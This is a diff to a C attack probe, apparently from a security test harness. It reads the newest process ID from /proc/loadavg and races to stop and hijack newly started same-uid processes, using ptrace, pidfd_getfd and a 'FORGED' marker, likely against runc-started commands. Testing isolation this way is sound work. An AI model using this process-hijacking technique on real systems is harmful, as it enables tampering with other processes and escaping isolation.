@@ -15,6 +15,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <sys/ptrace.h>
 #include <sys/syscall.h>
@@ -31,8 +32,8 @@
 #define SYS_pidfd_getfd 438
 #endif
 
-/* How many pids past the newest one are tried: runc and shells start a few processes for each command. */
-enum { PIDS_AHEAD = 8 };
+/* The pids around the newest one that are tried: a process takes on its uid some time after it has got its pid. */
+enum { PIDS_BEHIND = 16, PIDS_AHEAD = 8 };
 
 static const char forged[] = "FORGED\n";
 
@@ -99,26 +100,32 @@ static int attack_pid(pid_t pid)
     return done ? 0 : ATTACK_FAILED;
 }
 
-/* The newest pid of this pid namespace: that of a child made for the purpose. */
+/* The newest pid of this pid namespace: proc(5), the last field of /proc/loadavg. */
 static pid_t attack_newest(void)
 {
-    pid_t child = fork();
-    if (child == 0)
-        _exit(0);
-    waitpid(child, NULL, 0);
-    return child;
+    char text[128];
+    int file = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
+    ssize_t length = file < 0 ? -1 : read(file, text, sizeof text - 1);
+    if (length <= 0)
+        err(ATTACK_MISUSED, "/proc/loadavg");
+    close(file);
+    text[length] = '\0';
+    const char *last = strrchr(text, ' ');
+    return last ? (pid_t)strtol(last, NULL, 10) : 0;
 }
 
 static int attack_next(void)
 {
     unsigned long written = 0;
-    pid_t newest = attack_newest();
+    const pid_t first = attack_newest();
     puts("ready");
     fflush(stdout);
 
     attack_until_term();
     while (!attack_over) {
-        for (pid_t pid = newest + 1; pid <= newest + PIDS_AHEAD && !attack_over; pid++) {
+        pid_t newest = attack_newest();
+        pid_t pid = newest - PIDS_BEHIND > first ? newest - PIDS_BEHIND : first;
+        while (++pid <= newest + PIDS_AHEAD && !attack_over) {
             /* Only a process of this uid can be stopped, so that a success means: it is there, and the attack is on. */
             if (kill(pid, SIGSTOP) != 0)
                 continue;
@@ -131,7 +138,6 @@ static int attack_next(void)
                     break;
             }
             kill(pid, SIGCONT);
-            newest = pid;
         }
     }
     printf("%lu\n", written);
